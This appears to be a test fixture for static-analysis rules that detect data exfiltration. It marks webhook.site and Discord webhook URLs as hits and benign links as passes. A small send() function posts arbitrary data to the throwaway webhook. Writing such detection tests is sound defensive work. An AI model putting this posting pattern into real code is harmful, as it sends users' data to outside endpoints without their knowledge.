import requests

# ruleid: exfil-throwaway-endpoint
HOOK = "https://webhook.site/0e6c6b6e-1111-4000-8000-000000000000"
# ok: exfil-throwaway-endpoint
DOCS = "https://example.com/webhooks/site-setup"
# ruleid: exfil-chat-upload
DISCORD = "https://discord.com/api/webhooks/123456789012345678/abcdefABCDEF"
# ok: exfil-chat-upload
INVITE = "https://discord.com/invite/example"


def send(data: bytes) -> None:
    requests.post(HOOK, data=data, timeout=5)
